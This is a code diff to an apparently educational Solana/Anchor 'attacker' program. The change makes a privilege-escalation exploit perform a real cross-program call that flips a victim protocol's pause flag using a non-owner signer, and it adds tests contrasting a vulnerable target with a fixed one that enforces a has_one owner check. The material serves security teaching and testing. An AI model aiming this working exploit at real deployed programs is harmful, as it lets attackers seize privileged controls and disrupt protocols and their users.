@@ -1,5 +1,8 @@
 #![allow(unexpected_cfgs)]
 use anchor_lang::prelude::*;
+use anchor_lang::solana_program::instruction::{AccountMeta, Instruction};
+use anchor_lang::solana_program::program::invoke;
+use common::Outcome;
 
 declare_id!("GsjJhujUxyHj3JbKNLEvWrEAjZ2NfyZtTnyLVBXrwdrE");
 
@@ -40,7 +43,11 @@ pub mod signer_privilege_attacker {
     ///
     /// **Against vulnerable program**: Succeeds (no owner identity check)
     /// **Against fixed program**: Fails (has_one = owner constraint enforced)
-    pub fn escalate_privilege(ctx: Context<EscalateContext>) -> Result<()> {
+    ///
+    /// Reports a standardized [`Outcome`] through return data by inspecting
+    /// the target settings, so any harness can tell whether the escalation
+    /// actually landed.
+    pub fn escalate_privilege(ctx: Context<EscalateContext>) -> Result<Outcome> {
         msg!("🎯 Attacker: Attempting signer privilege escalation...");
         msg!("   Attacker wallet: {}", ctx.accounts.attacker.key());
         
@@ -86,31 +93,55 @@ pub mod signer_privilege_attacker {
         
         msg!("✅ Attacker: Attack execution completed");
         msg!("   (If vulnerable, protocol state is now controlled by attacker)");
-        
-        Ok(())
+
+        let outcome = assess_settings_outcome(
+            &ctx.accounts.target_settings.try_borrow_data()?,
+            &ctx.accounts.attacker.key(),
+        );
+        msg!("   Outcome: {}", outcome.detail);
+        Ok(outcome)
     }
 
     /// Attempts to exploit privilege escalation for configuration changes
-    /// 
-    /// This variant demonstrates changing protocol parameters that should
-    /// only be modifiable by the owner.
+    ///
+    /// This variant used to only write its own attack log — a no-op against
+    /// the victim. It now performs the real CPI: the victim's single
+    /// privileged knob is the pause flag, so the "config change" invokes its
+    /// `toggle_pause` with OUR signer. Against the vulnerable program the
+    /// flip lands; against the fix the has_one constraint kills the CPI and
+    /// the whole transaction (attack log included) reverts.
     pub fn unauthorized_config_change(
-        ctx: Context<EscalateContext>,
+        ctx: Context<ConfigChangeContext>,
         new_value: u64
     ) -> Result<()> {
         msg!("🎯 Attacker: Attempting unauthorized configuration change...");
         msg!("   Trying to set config value to: {}", new_value);
-        
+
+        invoke(
+            &Instruction {
+                program_id: ctx.accounts.victim_program.key(),
+                accounts: vec![
+                    AccountMeta::new(ctx.accounts.target_settings.key(), false),
+                    AccountMeta::new_readonly(ctx.accounts.attacker.key(), true),
+                ],
+                data: TOGGLE_PAUSE_DISCRIMINATOR.to_vec(),
+            },
+            &[
+                ctx.accounts.target_settings.to_account_info(),
+                ctx.accounts.attacker.to_account_info(),
+            ],
+        )?;
+
         let attack_log = &mut ctx.accounts.attack_log;
         attack_log.attacker = ctx.accounts.attacker.key();
         attack_log.target_settings = ctx.accounts.target_settings.key();
         attack_log.operation = PrivilegedOperation::ConfigChange;
         attack_log.timestamp = Clock::get()?.unix_timestamp;
-        
+
         msg!("   Expected outcome:");
         msg!("      - Vulnerable: Config changed ✅");
         msg!("      - Fixed: Access denied ❌");
-        
+
         Ok(())
     }
 
@@ -127,6 +158,63 @@ pub mod signer_privilege_attacker {
     }
 }
 
+/// Anchor derives account discriminators as `sha256("account:<Name>")[..8]`.
+/// Both victim programs call their account `Settings`, so this one constant
+/// matches either of them. A test pins it against the fix crate's
+/// `Discriminator` impl so it can never drift.
+pub const SETTINGS_DISCRIMINATOR: [u8; 8] = [223, 179, 163, 190, 177, 224, 67, 173];
+
+/// Instruction discriminator for `toggle_pause` —
+/// `sha256("global:toggle_pause")[..8]`. The vuln and the fix both name the
+/// instruction `toggle_pause`, so one constant reaches either victim; a test
+/// pins it against the fix crate's generated instruction struct.
+pub const TOGGLE_PAUSE_DISCRIMINATOR: [u8; 8] = [238, 237, 206, 27, 255, 95, 123, 229];
+
+/// Builds the standardized [`Outcome`] for the escalation exploit by reading
+/// the target settings' bytes: the attack landed iff the account really is a
+/// `Settings`, the protocol is paused, and the attacker is not its owner —
+/// i.e. a non-owner managed to flip a privileged switch.
+pub fn assess_settings_outcome(data: &[u8], attacker: &Pubkey) -> Outcome {
+    if data.len() < 8 + 32 + 1 || data[..8] != SETTINGS_DISCRIMINATOR {
+        return Outcome::blocked("target is not a Settings account");
+    }
+
+    // Settings layout: discriminator (8) | owner (32) | paused (1).
+    let owner = Pubkey::try_from(&data[8..40]).unwrap();
+    let paused = data[40] != 0;
+
+    if owner == *attacker {
+        Outcome::blocked("attacker is the legitimate owner; nothing escalated")
+    } else if paused {
+        Outcome::exploited("protocol paused by a non-owner signer")
+    } else {
+        Outcome::blocked("settings unchanged; privileged toggle was refused")
+    }
+}
+
+/// [`common::Exploit`] registration for the privilege escalation. Stateless,
+/// because everything the judgement needs — the post-attack settings bytes
+/// and the attacker's key — arrives in the harness context.
+pub struct EscalationExploit;
+
+impl common::Exploit for EscalationExploit {
+    fn name(&self) -> &'static str {
+        "signer-privilege-escalation"
+    }
+
+    fn run(&self, ctx: &common::ExploitCtx) -> common::ExploitResult {
+        Ok(assess_settings_outcome(ctx.target_data, &ctx.attacker))
+    }
+}
+
+impl common::SuccessOracle for EscalationExploit {
+    /// Paused flipped: the settings show the switch thrown while someone
+    /// other than the stored owner was the one signing.
+    fn succeeded(&self, ctx: &common::ExploitCtx) -> bool {
+        assess_settings_outcome(ctx.target_data, &ctx.attacker).exploited
+    }
+}
+
 /// Context for executing the privilege escalation attack
 #[derive(Accounts)]
 pub struct EscalateContext<'info> {
@@ -154,6 +242,32 @@ pub struct EscalateContext<'info> {
     pub attacker: Signer<'info>,
 }
 
+/// Context for the unauthorized configuration change — the CPI variant of
+/// [`EscalateContext`], which additionally names the victim program to call.
+#[derive(Accounts)]
+pub struct ConfigChangeContext<'info> {
+    /// CHECK: the victim's settings account, handed straight through to the
+    /// CPI. Validating it is exactly the victim's job; the attack exists to
+    /// find out whether the victim does.
+    #[account(mut)]
+    pub target_settings: UncheckedAccount<'info>,
+
+    /// Attack log to track privilege escalation attempts
+    #[account(
+        mut,
+        seeds = [b"attack-log", attacker.key().as_ref()],
+        bump
+    )]
+    pub attack_log: Account<'info, AttackLog>,
+
+    /// The attacker executing this exploit, signing with their own wallet
+    pub attacker: Signer<'info>,
+
+    /// CHECK: the victim program to invoke — vulnerable or fixed, the
+    /// caller's choice. The CPI outcome is the verdict on its validation.
+    pub victim_program: UncheckedAccount<'info>,
+}
+
 /// Context for initializing the attack log
 #[derive(Accounts)]
 pub struct InitializeAttackLog<'info> {
@@ -199,3 +313,212 @@ pub enum AttackError {
     #[msg("Privilege check passed (unexpected - should fail against fixed version)")]
     UnexpectedSuccess,
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use anchor_lang::solana_program::account_info::AccountInfo;
+    use anchor_lang::solana_program::clock::Epoch;
+    use anchor_lang::{AnchorSerialize, Discriminator};
+    use std::collections::BTreeSet;
+
+    fn serialize_settings(owner: Pubkey, paused: bool) -> Vec<u8> {
+        let mut data = SETTINGS_DISCRIMINATOR.to_vec();
+        let state = signer_privilege_fix::Settings { owner, paused };
+        data.extend_from_slice(&state.try_to_vec().unwrap());
+        data
+    }
+
+    fn make_account(
+        key: Pubkey,
+        owner: Pubkey,
+        is_signer: bool,
+        is_writable: bool,
+        executable: bool,
+        data: Vec<u8>,
+    ) -> AccountInfo<'static> {
+        AccountInfo::new(
+            Box::leak(Box::new(key)),
+            is_signer,
+            is_writable,
+            Box::leak(Box::new(1_000_000_000u64)),
+            Box::leak(data.into_boxed_slice()),
+            Box::leak(Box::new(owner)),
+            executable,
+            Epoch::default(),
+        )
+    }
+
+    #[test]
+    fn hardcoded_discriminator_matches_anchor_derivation() {
+        assert_eq!(
+            SETTINGS_DISCRIMINATOR,
+            <signer_privilege_fix::Settings as Discriminator>::DISCRIMINATOR,
+        );
+    }
+
+    #[test]
+    fn toggle_pause_discriminator_matches_anchor_derivation() {
+        assert_eq!(
+            TOGGLE_PAUSE_DISCRIMINATOR,
+            <signer_privilege_fix::instruction::TogglePause as Discriminator>::DISCRIMINATOR,
+        );
+    }
+
+    /// `unauthorized_config_change` used to stop at writing its own log,
+    /// leaving the victim untouched — an earlier version of this test
+    /// proved exactly that. The handler now fires the real CPI: off-chain
+    /// `invoke` cannot execute the victim, so reaching it panics, and that
+    /// panic is the proof the no-op is gone. The second half shows what the
+    /// CPI meets on-chain: the vuln's toggle accepts the attacker's signer,
+    /// the fix's has_one throws them out.
+    #[test]
+    fn config_change_reaches_the_victim_and_lands_only_against_the_vuln() {
+        use std::panic::{catch_unwind, AssertUnwindSafe};
+
+        let program_id = crate::id();
+        let owner = Pubkey::new_unique();
+        let attacker = Pubkey::new_unique();
+        let settings_data = serialize_settings(owner, false);
+
+        let settings_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            signer_privilege_vuln::ID,
+            false,
+            true,
+            false,
+            settings_data.clone(),
+        )));
+        let log_state = AttackLog {
+            attacker,
+            target_settings: Pubkey::default(),
+            operation: PrivilegedOperation::None,
+            timestamp: 0,
+        };
+        let mut log_data = <AttackLog as Discriminator>::DISCRIMINATOR.to_vec();
+        log_data.extend_from_slice(&log_state.try_to_vec().unwrap());
+        let log_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            program_id,
+            false,
+            true,
+            false,
+            log_data,
+        )));
+        let attacker_ai = Box::leak(Box::new(make_account(
+            attacker,
+            Pubkey::new_unique(),
+            true,
+            false,
+            false,
+            vec![],
+        )));
+        let victim_ai = Box::leak(Box::new(make_account(
+            signer_privilege_vuln::ID,
+            Pubkey::new_unique(),
+            false,
+            false,
+            true,
+            vec![],
+        )));
+
+        let mut accounts = ConfigChangeContext {
+            target_settings: UncheckedAccount::try_from(settings_ai),
+            attack_log: Account::try_from(&*log_ai).unwrap(),
+            attacker: Signer::try_from(&*attacker_ai).unwrap(),
+            victim_program: UncheckedAccount::try_from(victim_ai),
+        };
+        let ctx = Context::new(
+            &program_id,
+            &mut accounts,
+            &[],
+            ConfigChangeContextBumps { attack_log: 0 },
+        );
+        let outcome = catch_unwind(AssertUnwindSafe(|| {
+            signer_privilege_attacker::unauthorized_config_change(ctx, 777)
+        }));
+        assert!(outcome.is_err(), "the handler must now attempt the victim CPI");
+        // The attacker program itself still never touches the settings.
+        assert_eq!(**settings_ai.try_borrow_data().unwrap(), settings_data[..]);
+
+        // On-chain, the vuln side of that CPI accepts any signer and flips
+        // the flag...
+        let vuln_settings_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            signer_privilege_vuln::ID,
+            false,
+            true,
+            false,
+            settings_data.clone(),
+        )));
+        let mut vuln_accounts = signer_privilege_vuln::TogglePauseVuln {
+            settings: Account::try_from(&*vuln_settings_ai).unwrap(),
+            anyone: Signer::try_from(&*attacker_ai).unwrap(),
+        };
+        let ctx = Context::new(
+            &signer_privilege_vuln::ID,
+            &mut vuln_accounts,
+            &[],
+            signer_privilege_vuln::TogglePauseVulnBumps {},
+        );
+        signer_privilege_vuln::signer_privilege_vuln::toggle_pause(ctx).unwrap();
+        assert!(vuln_accounts.settings.paused, "the vuln lets the change land");
+
+        // ...while the fix's has_one rejects the attacker before its handler
+        // ever runs, surfacing the fix's own Unauthorized code.
+        let fix_settings_ai = make_account(
+            Pubkey::new_unique(),
+            signer_privilege_fix::ID,
+            false,
+            true,
+            false,
+            settings_data,
+        );
+        let intruder_ai = make_account(attacker, Pubkey::new_unique(), true, false, false, vec![]);
+        let mut infos: &[AccountInfo] =
+            Box::leak(vec![fix_settings_ai, intruder_ai].into_boxed_slice());
+        match signer_privilege_fix::TogglePauseSafe::try_accounts(
+            &signer_privilege_fix::ID,
+            &mut infos,
+            &[],
+            &mut signer_privilege_fix::TogglePauseSafeBumps {},
+            &mut BTreeSet::new(),
+        ) {
+            Err(err) => assert!(
+                format!("{}", err).contains("signer does not match the recorded authority")
+            ),
+            Ok(_) => panic!("the fix must reject the attacker's signer"),
+        }
+    }
+
+    #[test]
+    fn outcome_decodes_as_exploited_against_the_vulnerable_target() {
+        let owner = Pubkey::new_unique();
+        let attacker = Pubkey::new_unique();
+
+        // Against the vuln program a non-owner flipped the pause switch; the
+        // outcome travels as return data, so decode it from raw bytes like a
+        // harness would.
+        let outcome = assess_settings_outcome(&serialize_settings(owner, true), &attacker);
+        let decoded = Outcome::try_from_slice(&outcome.try_to_vec().unwrap()).unwrap();
+        assert!(decoded.exploited);
+        assert!(decoded.detail.contains("non-owner"));
+    }
+
+    #[test]
+    fn outcome_decodes_as_blocked_against_the_fixed_target() {
+        let owner = Pubkey::new_unique();
+        let attacker = Pubkey::new_unique();
+
+        // The fix rejected the toggle, so the protocol is still live.
+        let outcome = assess_settings_outcome(&serialize_settings(owner, false), &attacker);
+        let decoded = Outcome::try_from_slice(&outcome.try_to_vec().unwrap()).unwrap();
+        assert!(!decoded.exploited);
+        assert!(decoded.detail.contains("refused"));
+
+        // The owner pausing their own protocol is not an escalation, and a
+        // non-Settings account is rejected outright.
+        assert!(!assess_settings_outcome(&serialize_settings(owner, true), &owner).exploited);
+        assert!(!assess_settings_outcome(&[0u8; 64], &attacker).exploited);
+    }
+}